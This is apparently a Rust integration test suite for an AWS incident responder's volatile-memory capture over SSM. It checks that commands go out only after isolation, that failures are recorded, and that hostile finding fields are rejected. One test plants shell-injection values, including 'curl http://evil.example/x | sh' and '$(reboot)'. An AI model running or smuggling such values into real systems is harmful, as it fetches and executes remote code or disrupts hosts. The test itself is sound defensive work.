//! `ec2.capture_volatile` against moto (SSM `SendCommand`/`GetCommandInvocation`, S3, EC2):
//! one command per artefact goes to the contained instance, with AWS's shell document and
//! the bundle's `volatile/ssm` prefix, only once isolation has run; each artefact is read
//! back, decoded and in the manifest with the hash of what was received; a failed, stuck
//! or refused command is that step's outcome while the instance is isolated and tagged
//! quarantined; disabled, nothing is sent; a hostile finding cannot reach the shell. moto
//! answers every invocation `Success` at once with output of its own, so the script's
//! output (run here, with `sh`) and the other statuses come from the fault proxy; what a
//! hostile instance writes is `ec2_volatile_output.rs`.

use integration_tests::evidence_bucket::outcome;
use integration_tests::proxy::{Invocation, Proxy};
use integration_tests::volatile_rig::{
    artefact_of, capture, planned, prefix, rig, run_via_proxy, script_of, sent_commands,
    verified_bundle,
};
use integration_tests::world::Aws;
use responder::actions::ec2::volatile::CONCURRENT;
use responder::evidence::manifest::sha256_hex;
use responder::options::VolatileCapture;
use responder::outcome::Status;
use responder::plan::ActionKind;
use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

fn ssm(aws: &Aws) -> aws_sdk_ssm::Client {
    aws_sdk_ssm::Client::new(&aws.config)
}

/// The instance, played by this machine: the script runs here with `sh` and its output is
/// what `GetCommandInvocation` returns (moto's own output is not the script's).
fn run_here(sent: &serde_json::Value, seen: &Received) -> Option<Invocation> {
    let script = script_of(sent);
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(script)
        .output()
        .ok()?;
    let stdout = String::from_utf8(out.stdout).expect("the script writes ASCII");
    seen.lock()
        .unwrap()
        .insert(artefact_of(script), stdout.clone());
    Some(Invocation {
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        ..Invocation::success(stdout)
    })
}

/// What the proxy answered per artefact.
type Received = Arc<Mutex<HashMap<String, String>>>;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_artefact_is_a_command_after_isolation_read_back_decoded_into_the_manifest() {
    let r = rig("vc-ok", capture(20), |_| {}).await;
    assert!(planned(&r), "planned when enabled");
    let seen = Received::default();
    let answered = seen.clone();
    let (proxy, outcomes) = run_via_proxy(&r, capture(20), move |p| {
        p.command_output(move |sent| run_here(sent, &answered))
    })
    .await;
    let step = outcome(&outcomes, ActionKind::Ec2CaptureVolatile);
    // The sample's process and its lineage, one command each, and the four machine-wide.
    let pids = ["51877", "51866", "51855", "51844", "51833"];
    let mut want: Vec<String> = ["system", "processes", "network", "modules"]
        .map(String::from)
        .to_vec();
    want.extend(pids.iter().map(|p| format!("pid-{p}")));
    assert_eq!(step.status, Status::Done, "{step:?}");
    assert!(
        step.detail
            .starts_with(&format!("{n} of {n} artefacts", n = want.len())),
        "{}",
        step.detail
    );

    // Each sent once isolation had run: after the last group swap answered.
    let calls = proxy.calls();
    let swapped = calls
        .iter()
        .filter(|c| c.action == "ModifyNetworkInterfaceAttribute")
        .map(|c| c.end)
        .max()
        .expect("isolation swapped groups");
    assert!(
        calls
            .iter()
            .filter(|c| c.action == "SendCommand")
            .all(|c| c.start >= swapped),
        "SendCommand before isolation ended"
    );
    // What was sent: AWS's shell document, to this instance only, output under the bundle.
    let want_prefix = format!("{}volatile/ssm", prefix(&r));
    let sent = sent_commands(&proxy);
    let mut names: Vec<String> = sent.iter().map(|s| artefact_of(script_of(s))).collect();
    names.sort();
    let mut sorted = want.clone();
    sorted.sort();
    assert_eq!(names, sorted, "one command per artefact");
    for s in &sent {
        assert_eq!(s["DocumentName"], "AWS-RunShellScript");
        assert_eq!(s["InstanceIds"], serde_json::json!([r.inst.id]));
        assert_eq!(s["OutputS3BucketName"], r.bucket.as_str());
        assert_eq!(s["OutputS3KeyPrefix"], want_prefix.as_str());
    }
    // moto's record of them, by the ids the outcome reports.
    let listed = ssm(&r.direct)
        .list_commands()
        .instance_id(&r.inst.id)
        .send()
        .await
        .expect("ListCommands");
    let ours = listed
        .commands()
        .iter()
        .filter(|c| step.detail.contains(c.command_id().unwrap()))
        .count();
    assert_eq!(ours, want.len(), "{}", step.detail);

    // The bundle verifies; each artefact decoded is its own object, hashed in the manifest.
    let bundle = outcome(&outcomes, ActionKind::EvidenceWriteBundle);
    assert_eq!(bundle.status, Status::Done, "{bundle:?}");
    let dir = verified_bundle(&r, bundle, "vc").await;
    let read = |name: &str| std::fs::read_to_string(dir.join(name)).unwrap();
    assert!(read("volatile/system.txt").contains("===== uname ====="));
    assert!(read("volatile/modules.txt").contains("===== /proc/modules ====="));
    for p in pids {
        // No such process here: the script says so, and it reached the bundle decoded.
        let text = read(&format!("volatile/pid-{p}.txt"));
        assert!(text.contains(&format!("===== pid {p} =====")), "{text}");
    }
    let record: serde_json::Value = serde_json::from_str(&read("volatile/command.json")).unwrap();
    assert_eq!(record["instance_id"], r.inst.id.as_str());
    let lines = record["commands"].as_array().unwrap();
    assert_eq!(lines.len(), want.len());
    let seen = seen.lock().unwrap();
    for (line, name) in lines.iter().zip(&want) {
        assert_eq!(line["artefact"], name.as_str());
        assert_eq!(line["status"], "Success");
        // A busy machine's process list or connections can outgrow the output limit.
        let decoded = line["decoded"].as_str().unwrap();
        assert!(
            decoded == "complete"
                || (decoded == "cut" && ["processes", "network"].contains(&name.as_str())),
            "{line}"
        );
        assert_eq!(line["object"], format!("volatile/{name}.txt"));
        // The hash of the text received, as the instance wrote it.
        let received = &seen[name];
        assert_eq!(line["received_sha256"], sha256_hex(received.as_bytes()));
        assert_eq!(line["received_bytes"], received.len());
        assert_eq!(read(&format!("volatile/received/{name}.txt")), *received);
        let id = line["command_id"].as_str().unwrap();
        assert!(step.detail.contains(id));
        assert!(
            line["output"]
                .as_str()
                .unwrap()
                .starts_with(&format!("s3://{}/{want_prefix}/{id}/", r.bucket)),
            "{line}"
        );
        assert_eq!(
            read(&format!("volatile/scripts/{name}.sh")),
            script_of(
                sent.iter()
                    .find(|s| artefact_of(script_of(s)) == *name)
                    .unwrap()
            )
        );
    }
}

/// What a case does to the proxy before the run.
type InjectFault = Box<dyn Fn(&Proxy)>;

/// GetCommandInvocation answered as AWS does for a command that ended badly.
fn invocation(status: &str, details: &str) -> String {
    serde_json::json!({
        "CommandId": "00000000-0000-0000-0000-000000000000",
        "InstanceId": "i-0",
        "DocumentName": "AWS-RunShellScript",
        "PluginName": "aws:runShellScript",
        "ResponseCode": 1,
        "Status": status,
        "StatusDetails": details,
        "StandardOutputContent": "",
        "StandardErrorContent": "sh: 1: ss: not found",
    })
    .to_string()
}

/// Each way the capture can fail is its own outcome (with why), recorded in the bundle as
/// a gap; isolation and the quarantined tag stand, and the wait is bounded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_stuck_or_refused_command_is_an_outcome_and_the_instance_stays_isolated() {
    let cases: [(&str, &str, InjectFault); 4] = [
        (
            "vc-failed",
            "Failed",
            Box::new(|p| {
                p.answer(
                    "GetCommandInvocation",
                    200,
                    &invocation("Failed", "Failed"),
                    None,
                )
            }),
        ),
        (
            "vc-stuck",
            "still InProgress after the time limit of 2s",
            Box::new(|p| {
                p.answer(
                    "GetCommandInvocation",
                    200,
                    &invocation("InProgress", "InProgress"),
                    None,
                )
            }),
        ),
        (
            "vc-denied",
            "GetCommandInvocation: AccessDeniedException",
            Box::new(|p| p.fail("GetCommandInvocation", 400, "AccessDeniedException", None)),
        ),
        (
            "vc-unsent",
            "no command sent: SendCommand: InvalidInstanceId",
            Box::new(|p| p.fail("SendCommand", 400, "InvalidInstanceId", None)),
        ),
    ];
    for (name, why, fault) in cases {
        let r = rig(name, capture(2), |_| {}).await;
        let started = Instant::now();
        let (proxy, outcomes) = run_via_proxy(&r, capture(2), |p| fault(p)).await;
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{name}: waited {:?}",
            started.elapsed()
        );
        let step = outcome(&outcomes, ActionKind::Ec2CaptureVolatile);
        assert_eq!(step.status, Status::Failed, "{name}: {step:?}");
        assert!(step.detail.contains(why), "{name}: {}", step.detail);
        // The bundle is written all the same, incomplete, the gap named.
        let bundle = outcome(&outcomes, ActionKind::EvidenceWriteBundle);
        assert_eq!(bundle.status, Status::Failed, "{name}: {bundle:?}");
        assert!(
            bundle.detail.contains("volatile/"),
            "{name}: {}",
            bundle.detail
        );
        let dir = verified_bundle(&r, bundle, name).await;
        let gaps = std::fs::read_to_string(dir.join("collection-gaps.json")).unwrap();
        assert!(gaps.contains("volatile/"), "{name}: {gaps}");
        if name == "vc-stuck" {
            // At most CONCURRENT commands at once: the first ones hold the instance until
            // the time limit, the others are never sent.
            assert_eq!(sent_commands(&proxy).len(), CONCURRENT, "{name}");
            assert!(
                step.detail
                    .contains("not sent: the time limit of 2s passed before its turn"),
                "{}",
                step.detail
            );
        }
        if name == "vc-failed" {
            // What SSM returned of the output is kept (hashed in the manifest).
            let stderr = std::fs::read_to_string(dir.join("volatile/system.stderr.txt")).unwrap();
            assert_eq!(stderr, "sh: 1: ss: not found");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn disabled_no_command_is_sent() {
    let r = rig("vc-off", VolatileCapture::default(), |_| {}).await;
    assert!(!planned(&r), "not planned when disabled");
    // Even an executor configured to capture runs only what the plan holds.
    let (proxy, outcomes) = run_via_proxy(&r, capture(2), |_| {}).await;
    assert!(
        outcomes
            .iter()
            .all(|o| o.kind != ActionKind::Ec2CaptureVolatile)
    );
    let ssm_calls: Vec<_> = proxy
        .calls()
        .into_iter()
        .filter(|c| c.action == "SendCommand" || c.action == "GetCommandInvocation")
        .collect();
    assert!(ssm_calls.is_empty(), "{ssm_calls:?}");
}

/// The workload names its own process: a name and PIDs that are shell, and a lineage of
/// them. Only the valid integer reaches the command; nothing of the text does.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_process_in_the_finding_cannot_inject_shell() {
    let r = rig("vc-hostile", capture(10), |doc| {
        let p = &mut doc["detail"]["service"]["runtimeDetails"]["process"];
        p["pid"] = "1; curl http://evil.example/x | sh".into();
        p["name"] = "$(reboot)".into();
        p["executablePath"] = "/tmp/`reboot`".into();
        p["lineage"] = serde_json::json!([
            {"pid": "$(reboot)", "name": "; reboot"},
            {"pid": 4242, "name": "\n reboot"},
            {"pid": -7}, {"pid": 99999999999_u64},
        ]);
    })
    .await;
    let (proxy, outcomes) = run_via_proxy(&r, capture(10), |p| {
        let seen = Received::default();
        p.command_output(move |sent| run_here(sent, &seen))
    })
    .await;
    let step = outcome(&outcomes, ActionKind::Ec2CaptureVolatile);
    assert_eq!(step.status, Status::Done, "{step:?}");
    let sent = sent_commands(&proxy);
    let names: Vec<String> = sent.iter().map(|s| artefact_of(script_of(s))).collect();
    assert!(names.contains(&"pid-4242".to_owned()), "{names:?}");
    assert_eq!(
        names.len(),
        5,
        "the four machine-wide and the one valid PID: {names:?}"
    );
    for s in &sent {
        let script = script_of(s);
        let request = s.to_string();
        for bad in ["reboot", "curl", "evil", "`", "$("] {
            assert!(!script.contains(bad), "{bad} reached the shell:\n{script}");
            // Nor any other field of the command (its comment, its prefix).
            assert!(!request.contains(bad), "{bad} in the request: {request}");
        }
    }
    let pid = sent
        .iter()
        .map(script_of)
        .find(|s| artefact_of(s) == "pid-4242")
        .unwrap();
    assert!(pid.contains("  pid=4242\n"), "{pid}");
}
